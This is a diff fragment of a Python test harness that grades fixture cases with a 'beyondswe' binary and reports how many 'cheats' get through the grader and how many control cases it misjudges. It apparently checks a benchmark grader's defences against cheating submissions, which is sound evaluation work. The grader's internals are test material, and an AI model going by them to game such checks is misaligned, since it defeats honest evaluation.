+        out["f2p_passed"] = "%d/%d" % (sum(1 for o in f2p.values() if o == "passed"), len(f2p))
+    if v.get("suite"):
+        out["suite_passed"] = v["suite"]["passed"]
+    suspicious = (v.get("flags") or {}).get("suspicious") or []
+    if suspicious:
+        out["suspicious"] = len(suspicious)
+    return out
+
+
+def cmd_grade(binary, only, out_path):
+    with open(os.path.join(OUT, "cases.json"), encoding="utf-8") as fh:
+        entries = json.load(fh)
+    if only:
+        entries = [e for e in entries if e["name"] in only]
+    lines = []
+    for e in entries:
+        v = grade_case(binary, e)
+        ok = meets(e["expect"], v)
+        control = e["class"] == HC
+        status = ("ok" if ok else "WRONG") if control else ("stopped" if ok else "THROUGH")
+        row = dict({"name": e["name"], "class": e["class"]}, **v)
+        row["status"] = status
+        lines.append(row)
+        print("%-8s %-50s %-10s %-22s %s" % (status, e["name"], v["verdict"], v["reason"][:22], v["score"]),
+              flush=True)
+    if out_path:
+        with open(out_path, "w", encoding="utf-8") as fh:
+            for row in lines:
+                fh.write(json.dumps(row, ensure_ascii=False) + "\n")
+    through = [r["name"] for r in lines if r["status"] == "THROUGH"]
+    wrong = [r["name"] for r in lines if r["status"] == "WRONG"]
+    print("%d cases: %d cheats through, %d controls wrong" % (len(lines), len(through), len(wrong)))
+    return 0
+
+
+def main(argv):
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--check", action="store_true", help="fail if the committed fixtures are stale")
+    parser.add_argument("--grade", metavar="BIN", help="grade every case with this beyondswe binary")
+    parser.add_argument("--only", nargs="*", default=[], help="with --grade: these case names only")
+    parser.add_argument("--out", help="with --grade: results file (default baseline-results.jsonl; '-' for none)")
+    parser.add_argument("--rebuild-native", action="store_true", help="rebuild the extension modules in native/")
+    args = parser.parse_args(argv[1:])
+    if args.rebuild_native:
+        rebuild_native()
+        return 0
+    if args.check:
+        return cmd_check()
+    if args.grade:
+        out = args.out or os.path.join(OUT, "baseline-results.jsonl")
+        return cmd_grade(args.grade, set(args.only), None if out == "-" else out)
+    cmd_write()
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
